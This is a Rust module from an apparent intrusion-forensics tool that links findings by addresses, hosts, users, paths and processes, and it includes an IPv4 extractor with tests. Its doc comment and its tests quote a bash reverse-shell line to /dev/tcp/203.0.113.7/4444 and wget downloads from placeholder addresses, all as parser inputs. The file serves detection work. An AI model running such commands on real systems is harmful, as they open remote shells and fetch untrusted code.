//! The entities by which findings link into one attack: addresses, host names, non-root users,
//! paths and processes. Addresses also count when a finding only names them in its text (a cron line's
//! `/dev/tcp/203.0.113.7/4444`, a history line's `wget http://203.0.113.7/x`), because that is
//! where a reverse shell or a download names its peer.

use huoyan_core::Finding;

/// The link keys of a finding (`ip:…`, `host:…`, `user:…`, `path:…`, and `pid:…` when `with_pids`).
pub fn keys(f: &Finding, with_pids: bool) -> Vec<String> {
    let mut out: Vec<String> = f.ips.iter().map(|ip| format!("ip:{ip}")).collect();
    for ip in ipv4_in_text(&f.summary) {
        let key = format!("ip:{ip}");
        if !out.contains(&key) {
            out.push(key);
        }
    }
    out.extend(f.hosts.iter().map(|h| format!("host:{h}")));
    out.extend(
        f.users
            .iter()
            .filter(|u| *u != "root")
            .map(|u| format!("user:{u}")),
    );
    out.extend(f.paths.iter().map(|p| format!("path:{p}")));
    if with_pids {
        out.extend(f.pids.iter().map(|p| format!("pid:{p}")));
    }
    out
}

/// Dotted-quad IPv4 addresses in a text (not loopback, unspecified or broadcast; a version
/// string such as `1.2.3.4.5` is not an address).
pub fn ipv4_in_text(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if !bytes[i].is_ascii_digit()
            || (i > 0 && (bytes[i - 1].is_ascii_alphanumeric() || bytes[i - 1] == b'.'))
        {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
            i += 1;
        }
        let mut candidate = &text[start..i];
        // A sentence may end right after the address.
        if candidate.ends_with('.') && candidate.matches('.').count() == 4 {
            candidate = &candidate[..candidate.len() - 1];
        }
        let followed_by_word = bytes.get(i).is_some_and(|b| b.is_ascii_alphabetic());
        if followed_by_word {
            continue;
        }
        if let Ok(addr) = candidate.parse::<std::net::Ipv4Addr>() {
            if !addr.is_loopback() && !addr.is_unspecified() && !addr.is_broadcast() {
                let s = addr.to_string();
                if !out.contains(&s) {
                    out.push(s);
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_addresses_in_commands() {
        assert_eq!(
            ipv4_in_text("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
            vec!["203.0.113.7"]
        );
        assert_eq!(
            ipv4_in_text("wget http://198.51.100.23:8080/x; from 10.0.0.1."),
            vec!["198.51.100.23", "10.0.0.1"]
        );
        assert!(ipv4_in_text("version 1.2.3.4.5, 127.0.0.1, 0.0.0.0, 999.1.1.1").is_empty());
        assert!(ipv4_in_text("libfoo.so.1.2.3.4").is_empty());
    }
}
